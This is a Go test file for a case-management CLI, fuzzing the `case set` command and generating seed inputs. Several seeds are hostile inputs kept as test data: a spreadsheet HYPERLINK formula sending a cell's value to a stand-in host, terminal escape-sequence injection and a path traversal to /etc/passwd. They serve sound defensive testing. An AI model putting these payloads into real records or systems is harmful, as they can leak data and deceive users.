package cli

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"casefile/model"
)

// FuzzCaseSet runs `casefile case set REF ARG…` on a real vault (a demo
// case), the arguments being the fuzzed text cut at NUL bytes (which no
// argument can hold). Whatever they are:
//   - nothing panics, and the exit code is OK, usage or invalid;
//   - a refusal leaves the case exactly as `case show --json` showed it;
//   - an accepted one gives the case the model's own reading of each
//     FIELD=VALUE (model.SetField on the case as it was), and `casefile
//     check` passes.
func FuzzCaseSet(f *testing.F) {
	root := f.TempDir()
	base := filepath.Join(root, "base")
	env := passEnv()
	if _, stderr, code := run(f, env, "", "--vault", base, "init"); code != 0 {
		f.Fatalf("init: %s", stderr)
	}
	if _, stderr, code := run(f, env, "", "--vault", base, "demo", "--cases", "1"); code != 0 {
		f.Fatalf("demo: %s", stderr)
	}
	out, stderr, code := run(f, env, "", "--vault", base, "case", "list", "--json")
	if code != 0 {
		f.Fatalf("case list: %s", stderr)
	}
	var rows []struct{ Ref string }
	if err := json.Unmarshal([]byte(out), &rows); err != nil || len(rows) != 1 {
		f.Fatalf("case list: %v %s", err, out)
	}
	ref := rows[0].Ref
	var vault string // a copy of base, nil once changed
	n := 0
	f.Add("prefecture=Préfecture de test (Kerguelen)")
	f.Fuzz(func(t *testing.T, text string) {
		if vault == "" {
			n++
			vault = filepath.Join(root, fmt.Sprint("v", n))
			if err := copyTree(base, vault); err != nil {
				t.Fatal(err)
			}
		}
		show := func() (string, model.CaseFile) {
			out, stderr, code := run(t, env, "", "--vault", vault, "case", "show", "--json", ref)
			if code != 0 {
				t.Fatalf("case show: %s", stderr)
			}
			var f model.CaseFile
			if err := json.Unmarshal([]byte(out), &f); err != nil {
				t.Fatal(err)
			}
			return out, f
		}
		before, want := show()
		args := strings.Split(text, "\x00")
		_, stderr, code := run(t, env, "", append([]string{"--vault", vault, "case", "set", ref}, args...)...)
		after, got := show()
		switch code {
		case ExitOK:
		case ExitUsage, ExitInvalid:
			if after != before {
				t.Fatalf("refused (%d: %s), and the case changed", code, stderr)
			}
			return
		default:
			t.Fatalf("exit %d: %s", code, stderr)
		}
		if after != before {
			defer func(dir string) { os.RemoveAll(dir) }(vault)
			vault = ""
		}
		dir := vault
		if dir == "" {
			dir = filepath.Join(root, fmt.Sprint("v", n))
		}
		// The model's reading of the same assignments, the last of a
		// field winning as the command's does.
		assign := map[string]string{}
		for _, a := range args {
			k, v, _ := strings.Cut(a, "=")
			assign[k] = v
		}
		names := make([]string, 0, len(assign))
		for k := range assign {
			names = append(names, k)
		}
		sort.Strings(names)
		for _, k := range names {
			if err := model.SetField(&want, k, assign[k]); err != nil {
				t.Fatalf("the command took %s=%q, the model refuses it: %v", k, assign[k], err)
			}
		}
		wb, _ := json.Marshal(want)
		gb, _ := json.Marshal(got)
		if string(wb) != string(gb) {
			t.Fatalf("case set %q:\nthe model reads %s\nthe case holds  %s", args, wb, gb)
		}
		if _, stderr, code := run(t, env, "", "--vault", dir, "check"); code != ExitOK {
			t.Fatalf("check after case set %q: %s", args, stderr)
		}
	})
}

func copyTree(from, to string) error {
	return filepath.WalkDir(from, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(from, p)
		if d.IsDir() {
			return os.MkdirAll(filepath.Join(to, rel), 0o700)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(filepath.Join(to, rel), b, 0o600)
	})
}

// TestWriteCaseSetFuzzSeeds rewrites testdata/fuzz/FuzzCaseSet when
// CASEFILE_WRITE_SEEDS=1.
func TestWriteCaseSetFuzzSeeds(t *testing.T) {
	if os.Getenv("CASEFILE_WRITE_SEEDS") != "1" {
		t.Skip("set CASEFILE_WRITE_SEEDS=1 to rewrite testdata/fuzz/FuzzCaseSet")
	}
	dir := filepath.Join("testdata", "fuzz", "FuzzCaseSet")
	os.RemoveAll(dir)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, args := range map[string][]string{
		"fields":       {"prefecture=Préfecture de test (Kerguelen)", "anef_number=A77", "person.phone=+33 6 00 00 00 00"},
		"date":         {"opened=01/12/2026", "person.birth_date=1990-03-01"},
		"date-bad":     {"closed=31/02/2026"},
		"future":       {"opened=2100-01-01"},
		"interpreter":  {"person.interpreter=oui", "person.languages=arabe, français"},
		"no-equals":    {"prefecture"},
		"empty-name":   {"=x"},
		"flag":         {"-json"},
		"twice":        {"lawyer=Me A", "lawyer=Me B"},
		"unknown":      {"no_such_field=x"},
		"not-settable": {"person_id=01900000-0000-7000-8000-000000000000"},
		"formula":      {`prefecture==HYPERLINK("http://evil.example/?"&A2,"click")`},
		"control":      {"person.family_name=\x1b]0;owned\x07\x1b[31mBenali"},
		"traversal":    {"person.family_name=../../../../etc/passwd"},
		"long":         {"outcome=" + strings.Repeat("é", 600)},
		"equals-value": {"lawyer=a=b"},
	} {
		b := fmt.Appendf(nil, "go test fuzz v1\nstring(%q)\n", strings.Join(args, "\x00"))
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}
